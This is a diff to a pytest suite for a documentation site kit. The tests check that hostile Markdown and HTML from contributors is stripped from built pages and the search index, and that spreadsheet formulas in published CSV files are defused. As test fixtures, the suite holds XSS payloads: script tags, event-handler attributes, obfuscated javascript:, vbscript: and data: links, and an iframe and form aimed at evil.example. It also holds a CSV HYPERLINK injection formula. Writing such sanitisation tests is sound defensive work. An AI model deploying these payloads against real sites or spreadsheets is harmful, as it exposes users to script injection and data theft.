@@ -39,9 +39,9 @@ SCRIPT = (
     "END:VEVENT\nBEGIN:VEVENT\nSUMMARY:lgds-xss-injected"
 )
 """For free-text fields: markup, quotes, and a line break that tries to start a new calendar event."""
-LINK = "https://example.org/book)[lgds-xss](javascript:alert(1)"
-"""A web address that passes the checks but, written into Markdown as it is, closes its own link and adds
-another to a script."""
+LINK = "https://example.org/book)lgds-xss(x"
+"""A web address that passes the checks but, written into Markdown as it is, would close its own link.
+(One that would also open another, ``...book)[x](javascript:...)``, is refused when it is loaded.)"""
 
 POINT = "standard/14-keep-researching-and-testing.md"
 POINT_URL = f"/standard/14-{slugify(POINT_TITLE)}/"
@@ -186,7 +186,7 @@ def test_a_web_address_from_data_is_one_link_to_where_it_says(poisoned_site):
     booking = [
         a["href"] for a in page.select("article a[href]") if a["href"].startswith("https://example.org/book")
     ]
-    assert booking == ["https://example.org/book%29[lgds-xss]%28javascript:alert%281%29"]
+    assert booking == ["https://example.org/book%29lgds-xss%28x"]
     assert not [a for a in page.select("article a[href]") if "javascript" in a["href"].split(":")[0]]
 
 
@@ -257,3 +257,124 @@ def test_xml_feeds_are_well_formed_and_never_carry_live_markup(poisoned_site):
             text = element.text or ""
             if MARKER in text and element.get("type") in ("html", "xhtml"):
                 assert "<script>lgds-xss" not in text, f"{path.name}: feed HTML carries a live <script>"
+
+
+# --- No script, no markup from data (issue 12): Markdown bodies are cleaned, CSV cells are not formulas --
+#
+# One copy of the kit, built without --strict (so the warnings about what is taken out do not stop it),
+# has hostile HTML and links in every kind of contributor's Markdown, and formulas in data. The reader
+# must get none of it: no script, event handler, frame, object, form or style, and no `javascript:`,
+# `vbscript:` or `data:` link, whatever the spelling; formatting and text around them stay.
+
+KEPT = "lgds-kept"
+HOSTILE_BODIES = {
+    POINT: '<script>lgds-xss()</script>\n\n<p onclick="lgds-xss()">Click lgds-kept-1</p>\n',
+    EVENT: (
+        "[Slides lgds-kept-2](javascript:lgds_xss())\n\n[Notes](JaVaScRiPt:lgds_xss())\n\n"
+        'A paragraph lgds-kept-3\n{: onmouseover="lgds-xss()" }\n\n**bold lgds-kept-4**\n'
+    ),
+    "peer-groups/london/index.md": (
+        '<iframe src="https://evil.example/lgds-xss"></iframe>\n\n<object data="lgds-xss.swf"></object>'
+        '<embed src="lgds-xss.swf">\n\n| a | b |\n|--:|:-:|\n| lgds-kept-5 | 2 |\n'
+    ),
+    "franchise-kit/packs/introducing-the-standard/notes.md": (
+        '<img src="x" onerror="lgds-xss()">\n\n<form action="https://evil.example/lgds-xss">'
+        '<input name="password" value="lgds-xss"></form>\n'
+    ),
+    "franchise-kit/packs/introducing-the-standard/activities/welcome.md": (
+        '<a href="&#x6A;avascript:lgds-xss()">entity lgds-kept-6</a> and <a href="java&#x09;script:lgds-xss()">tab</a>\n'
+    ),
+    "franchise-kit/packs/introducing-the-standard/handouts/points-on-a-page.md": (
+        "[mixed](VbScRiPt:lgds-xss)\n\n![picture](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImxnZHMteHNzIj4=)\n"
+    ),
+    "standard/index.md": "<style>body { display: none } /* lgds-xss */</style>\n\n<details><summary>lgds-kept-7</summary>x</details>\n",
+    "franchise-kit/guide/starting-a-group.md": (
+        '<svg onload="lgds-xss()"><circle r="1"/></svg>\n\n[x](data:text/html,lgds-xss) <b>lgds-kept-8</b>\n'
+    ),
+}
+FORMULA = '=HYPERLINK("https://evil.example/lgds-xss","Click")'
+REGISTER_FORMULA = "@SUM(1+1) lgds-formula"
+"""(Shown as text in the kit's own SVG map and filter form, so it carries a marker of its own.)"""
+
+
+def hostile_markdown_files() -> dict[str, str | None]:
+    files: dict[str, str | None] = {
+        path: (ROOT / path).read_text(encoding="utf-8").rstrip("\n") + "\n\n" + added
+        for path, added in HOSTILE_BODIES.items()
+    }
+    files[SIGNUP] = f"council: CMD\nsigned: 2017-03-14\nnote: {json.dumps(FORMULA)}\n"
+    register = (ROOT / "data/councils.csv").read_text(encoding="utf-8")
+    files["data/councils.csv"] = _replace(
+        register, "ADU,Adur District Council,Adur,", f"ADU,Adur District Council,{REGISTER_FORMULA},"
+    )
+    return files
+
+
+@pytest.fixture(scope="module")
+def cleaned_site(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
+    root = copy_kit(tmp_path_factory.mktemp("hostile-markdown") / "kit", hostile_markdown_files())
+    out = root.parent / "site"
+    result = mkdocs_build(root, out, strict=False)
+    assert result.returncode == 0, result.stdout + result.stderr
+    return root, out
+
+
+REMOVED = {"script", "style", "iframe", "object", "embed", "form", "svg", "input", "frame", "math"}
+
+
+def test_no_page_keeps_script_or_markup_a_contributor_wrote(cleaned_site):
+    _, site = cleaned_site
+    found = []
+    for page in sorted(site.rglob("*.html")):
+        soup = BeautifulSoup(page.read_text(encoding="utf-8"), "lxml")
+        where = page.relative_to(site).as_posix()
+        for tag in (soup.find("article") or soup).find_all(True):
+            if tag.name in REMOVED and MARKER in str(tag):
+                found.append(f"{where}: <{tag.name}>")
+            for name, value in tag.attrs.items():
+                value = " ".join(value) if isinstance(value, list) else str(value)
+                if name.lower().startswith("on") or dangerous(name, value):
+                    found.append(f"{where}: <{tag.name} {name}={value[:60]!r}>")
+    assert not found, "\n".join(found)
+
+
+def test_what_is_taken_out_leaves_the_text_and_formatting_around_it(cleaned_site):
+    _, site = cleaned_site
+    pages = {p: p.read_text(encoding="utf-8") for p in site.rglob("*.html")}
+    text = " ".join(BeautifulSoup(html, "lxml").get_text(" ") for html in pages.values())
+    for number in range(1, 9):
+        assert f"{KEPT}-{number}" in text, f"{KEPT}-{number} is missing from every page"
+    joined = "\n".join(pages.values())
+    assert "<strong>bold lgds-kept-4</strong>" in joined
+    assert '<td style="text-align:right">lgds-kept-5</td>' in joined
+    assert "<summary>lgds-kept-7</summary>" in joined
+
+
+def test_search_index_holds_nothing_that_was_taken_out(cleaned_site):
+    """Material shows results as HTML: no element or attribute taken out of a page may be in the index."""
+    _, site = cleaned_site
+    index = json.loads((site / "search" / "search_index.json").read_text(encoding="utf-8"))
+    assert any("lgds-kept-1" in doc["text"] for doc in index["docs"])
+    found = []
+    for doc in index["docs"]:
+        for tag in BeautifulSoup(doc["title"] + " " + doc["text"], "lxml").find_all(True):
+            attributes = " ".join(f"{k}={v}" for k, v in tag.attrs.items())
+            if tag.name in REMOVED or MARKER in attributes:
+                found.append(f"{doc['location']}: <{tag.name} {attributes[:60]}>")
+    assert not found, "\n".join(found)
+
+
+def test_spreadsheet_formulas_in_data_are_defused_in_published_csv(cleaned_site):
+    root, site = cleaned_site
+    signups = list(csv.DictReader(io.StringIO((site / "data" / "signups.csv").read_text(encoding="utf-8"))))
+    assert [r["note"] for r in signups if r["council"] == "CMD"] == ["'" + FORMULA]
+    register = list(csv.DictReader(io.StringIO((site / "data" / "councils.csv").read_text(encoding="utf-8"))))
+    adur = next(r for r in register if r["code"] == "ADU")
+    assert adur["short_name"] == "'" + REGISTER_FORMULA
+    assert adur["lon"].startswith("-")  # a plain number is left as it is
+    cells = [cell for row in register for cell in row.values()]
+    assert not [
+        c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r") or (c[:1] == "-" and not c[1:2].isdigit())
+    ]
+    # The repository's own file is not changed.
+    assert f",{REGISTER_FORMULA}," in (root / "data" / "councils.csv").read_text(encoding="utf-8")
